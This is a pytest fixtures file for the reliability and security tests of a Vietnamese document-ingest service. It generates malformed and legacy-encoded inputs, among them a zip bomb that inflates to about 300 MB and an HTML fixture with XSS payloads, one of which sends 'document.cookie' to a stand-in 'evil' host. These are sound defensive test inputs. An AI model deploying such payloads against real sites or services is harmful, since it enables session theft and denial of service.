"""Fixtures of the reliability and security tests (issue #6).

Hostile inputs are generated into temporary folders (nothing large is committed); a small
valid plan written here (and variants of it for other provinces) is the "old state" every
bad-input test starts from. Fixture names start with ``rel_`` so they cannot clash."""
from __future__ import annotations

import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
import unicodedata
import zipfile
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest

TOKEN = "rel-token-3b9e"  # HTTP headers carry latin-1: ASCII token

#: a short but real-shaped plan; ``{province}``/``{PROVINCE}``/``{number}`` vary per variant
PLAN = """ỦY BAN NHÂN DÂN
TỈNH {PROVINCE}
Số: {number}/KH-UBND
{province}, ngày 10 tháng 3 năm 2021
KẾ HOẠCH
Công tác đối ngoại năm 2021
Căn cứ Quyết định số 272-QĐ/TW ngày 21/01/2015 của Bộ Chính trị về ban hành Quy chế quản lý thống nhất các hoạt động đối ngoại; Nghị định số 12/2012/NĐ-CP ngày 01/3/2012 của Chính phủ;
I. NHIỆM VỤ
1. Sở Ngoại vụ chủ trì, phối hợp với Sở Công Thương tổ chức đoàn công tác sang Quảng Tây (Trung Quốc).
2. Công an tỉnh phối hợp với Bộ đội Biên phòng tỉnh quản lý người nước ngoài trên địa bàn.
II. TỔ CHỨC THỰC HIỆN
Sở Ngoại vụ theo dõi, đôn đốc việc thực hiện Kế hoạch này.
"""

PROVINCES = {  # variant key -> (name, NAME)
    "quang_ninh": ("Quảng Ninh", "QUẢNG NINH"),
    "lao_cai": ("Lào Cai", "LÀO CAI"),
    "an_giang": ("An Giang", "AN GIANG"),
    "ha_giang": ("Hà Giang", "HÀ GIANG"),
}


def plan_text(key: str = "quang_ninh", number: int = 15, extra: str = "") -> str:
    name, upper = PROVINCES[key]
    return PLAN.format(province=name, PROVINCE=upper, number=number) + extra


def _cp1258(text: str) -> bytes:
    """Windows-1258 as Word wrote it: precomposed base letters (ă â ê ô ơ ư đ) + combining tone."""
    tones = {"\u0300", "\u0301", "\u0303", "\u0309", "\u0323"}
    out = []
    for ch in unicodedata.normalize("NFC", text):
        parts = unicodedata.normalize("NFD", ch)
        tone = "".join(c for c in parts if c in tones)
        base = unicodedata.normalize("NFC", "".join(c for c in parts if c not in tones))
        out.append(base + tone)
    return "".join(out).encode("cp1258")


def _tcvn3(text: str) -> bytes:
    from vbgraph.ingest.legacy import _tcvn3_table

    reverse = {v: k for k, v in _tcvn3_table().items()}
    out = bytearray()
    for ch in unicodedata.normalize("NFC", text):
        if ord(ch) < 128:
            out.append(ord(ch))
        elif ch in reverse:
            out.append(reverse[ch])
        elif ch.lower() in reverse:  # TCVN3 (ABC) fonts: capitals drawn from the lower-case slots
            out.append(reverse[ch.lower()])
        else:
            raise ValueError(f"no TCVN3 byte for {ch!r}")
    return bytes(out)


def _vni(text: str) -> bytes:
    """VNI-Windows bytes: each accented letter as its base letter plus mark byte(s)."""
    from vbgraph.ingest.legacy import _vni_pattern

    _, reverse = _vni_pattern()
    letters = {letter: seq for seq, letter in reverse.items()}
    out = bytearray()
    for ch in unicodedata.normalize("NFC", text):
        seq = letters.get(ch, ch)
        for c in seq:
            out += bytes([ord(c)]) if ord(c) in (0x81, 0x8D, 0x8F, 0x90, 0x9D) else c.encode("cp1252")
    return bytes(out)


def _docx(text: str) -> bytes:
    import docx

    d = docx.Document()
    for line in text.splitlines():
        d.add_paragraph(line)
    buf = io.BytesIO()
    d.save(buf)
    return buf.getvalue()


def _blank_pdf() -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def _zip_bomb() -> bytes:
    """A .docx-shaped zip whose document part inflates ~1000x (300 MB of zeros)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        with zf.open("word/document.xml", "w", force_zip64=True) as fh:
            fh.write(b"<w:document>")
            chunk = b"\0" * (1 << 20)
            for _ in range(300):
                fh.write(chunk)
            fh.write(b"</w:document>")
    return buf.getvalue()


#: name -> (bytes factory, expected ingest reason substring or None when it must ingest)
BAD_INPUTS: dict[str, tuple[Callable[[], bytes], str | None]] = {
    "empty.txt": (lambda: b"", "empty file"),
    "whitespace.txt": (lambda: b" \n\t\r\n  ", "empty file"),
    "binary_renamed.txt": (lambda: bytes(range(256)) * 64, "binary file"),
    "elf_renamed.txt": (lambda: b"\x7fELF\x02\x01\x01" + bytes(4096), "binary file"),
    "png_renamed.txt": (lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(1, 200)) * 20, "binary"),
    "truncated.docx": (lambda: _docx(plan_text())[:3000], "not a valid .docx"),
    "truncated.pdf": (lambda: _blank_pdf()[:300], "cannot read PDF"),
    "no_text_layer.pdf": (_blank_pdf, "needs OCR"),
    "zip_bomb.docx": (_zip_bomb, "zip bomb"),
    "controls_nul.txt": (lambda: (plan_text() + "\x00\x01\x02\x1b[31m").encode(), "binary file"),
    "undecodable.txt": (lambda: bytes([0xC3, 0x28, 0xA0, 0xA1]) * 500, "encoding"),
}
#: inputs that are odd but valid: they must ingest, to the same document as clean UTF-8
GOOD_ODD_INPUTS: dict[str, Callable[[], bytes]] = {
    "mixed_nfd_nfc.txt": lambda: "".join(
        unicodedata.normalize("NFD" if i % 2 else "NFC", line)
        for i, line in enumerate(plan_text().splitlines(True))).encode("utf-8"),
    "windows1258.txt": lambda: _cp1258(plan_text()),
    "tcvn3.txt": lambda: _tcvn3(plan_text()),
    "vni.txt": lambda: _vni(plan_text()),
    "utf8_bom_crlf.txt": lambda: b"\xef\xbb\xbf" + plan_text().replace("\n", "\r\n").encode(),
    "utf16.txt": lambda: plan_text().encode("utf-16"),
    "few_controls.txt": lambda: (
        plan_text().replace("\n", "\x0c\n", 2).replace("Sở Ngoại vụ chủ trì", "Sở Ngoại vụ\x07 chủ trì")
        .replace("Công an tỉnh", "Công\x0b an tỉnh").replace("Sở Công Thương", "Sở Công\x1f Thương")
    ).encode("utf-8"),
    "scripts.html": lambda: (
        "<!DOCTYPE html><html><head><title>KH</title><script>alert('xss-head')</script>"
        "<style>p{color:red}</style></head><body><p>"
        + plan_text().replace("\n", "</p>\n<p>")
        + "<script>fetch('//evil/'+document.cookie)</script>"
          "<img src=x onerror=\"alert('xss-img')\"></p></body></html>").encode("utf-8"),
    "plan.docx": lambda: _docx(plan_text()),
}


def snapshot(data_dir: Path) -> dict[str, Any]:
    """What a write would change: manifest, graph counts, and every file (name, size, hash)."""
    files = {}
    if data_dir.exists():
        for f in sorted(data_dir.rglob("*")):
            if f.is_file() and f.name != ".write.lock":
                files[str(f.relative_to(data_dir))] = (
                    f.stat().st_size, hashlib.sha256(f.read_bytes()).hexdigest())
    manifest = data_dir / "manifest.json"
    state: dict[str, Any] = {
        "manifest": json.loads(manifest.read_text(encoding="utf-8")) if manifest.exists() else None,
        "files": files,
    }
    if manifest.exists():
        from vbgraph.api.service import Workspace

        with Workspace(data_dir, index=False) as ws:
            state["counts"] = ws.graph.counts()
            state["documents"] = sorted(d["id"] for d in ws.documents())
    return state


def run_cli(*args: str, env: dict[str, str] | None = None, timeout: float = 300
            ) -> subprocess.CompletedProcess[str]:
    full_env = {**os.environ, **(env or {})}
    return subprocess.run([sys.executable, "-m", "vbgraph.api", *args], capture_output=True,
                          text=True, env=full_env, timeout=timeout)


@pytest.fixture(scope="session")
def rel_template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A data dir (graph only) holding one small plan: the old state of the bad-input tests."""
    from vbgraph.api.service import Workspace

    base = tmp_path_factory.mktemp("rel-template")
    src = base / "src" / "plan_quang_ninh.txt"
    src.parent.mkdir()
    src.write_text(plan_text(), encoding="utf-8")
    data_dir = base / "data"
    with Workspace(data_dir, index=False) as ws:
        report = ws.ingest([src])
    assert report.added and not report.failed, report
    return data_dir


@pytest.fixture()
def rel_data_dir(tmp_path: Path, rel_template: Path) -> Path:
    data_dir = tmp_path / "data"
    shutil.copytree(rel_template, data_dir, ignore=shutil.ignore_patterns(".write.lock"))
    return data_dir


@pytest.fixture()
def rel_client(rel_data_dir: Path) -> Iterator[tuple[Path, Any]]:
    from fastapi.testclient import TestClient
    from vbgraph.api.http import create_app
    from vbgraph.api.service import Workspace

    workspace = Workspace(rel_data_dir, index=False)
    app = create_app(workspace, token=TOKEN, max_upload_bytes=4 * 1024 * 1024, rate_limit=None)
    with TestClient(app, raise_server_exceptions=False) as client:
        yield rel_data_dir, client
    workspace.close()


def auth() -> dict[str, str]:
    return {"Authorization": f"Bearer {TOKEN}"}


def injection_requests(path: str, params: Sequence[str], fixed: dict[str, Any],
                       values: Sequence[str]) -> Iterator[tuple[str, str, str, dict[str, Any]]]:
    """(parameter, value, url, query) for each injection value in each parameter of an endpoint:
    a ``{}`` in the path is the path parameter (percent-encoded), else a query parameter."""
    from urllib.parse import quote

    for name in params:
        for value in values:
            if path.endswith("{}"):
                yield name, value, path.format(quote(value, safe="")), {}
            else:
                yield name, value, path, {**fixed, name: value}


@pytest.fixture(scope="session")
def rel_helpers() -> Any:
    """The module-level helpers, for test modules (conftest is not importable under importlib)."""
    import types

    return types.SimpleNamespace(
        plan_text=plan_text, snapshot=snapshot, run_cli=run_cli, auth=auth, TOKEN=TOKEN,
        BAD_INPUTS=BAD_INPUTS, GOOD_ODD_INPUTS=GOOD_ODD_INPUTS, PROVINCES=PROVINCES,
        docx=_docx, blank_pdf=_blank_pdf, injection_requests=injection_requests)


@pytest.fixture(scope="session")
def rel_indexed_template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Two small plans with the search index (the embedder loads once per session)."""
    from vbgraph.api.service import Workspace

    base = tmp_path_factory.mktemp("rel-indexed")
    src = base / "src"
    src.mkdir()
    for key, number in (("quang_ninh", 15), ("lao_cai", 8)):
        (src / f"{key}.txt").write_text(plan_text(key, number), encoding="utf-8")
    data_dir = base / "data"
    with Workspace(data_dir, index=True) as ws:
        report = ws.ingest([src])
    assert len(report.added) == 2 and report.indexed_tasks > 0, report
    return data_dir


@pytest.fixture(scope="session")
def rel_indexed_client(rel_indexed_template: Path) -> Iterator[tuple[Path, Any]]:
    """A read-only client over the indexed data dir (no token: writes are refused)."""
    from fastapi.testclient import TestClient
    from vbgraph.api.http import create_app
    from vbgraph.api.service import Workspace

    workspace = Workspace(rel_indexed_template, index=True)
    app = create_app(workspace, token=None, rate_limit=None)
    with TestClient(app, raise_server_exceptions=False) as client:
        yield rel_indexed_template, client
    workspace.close()
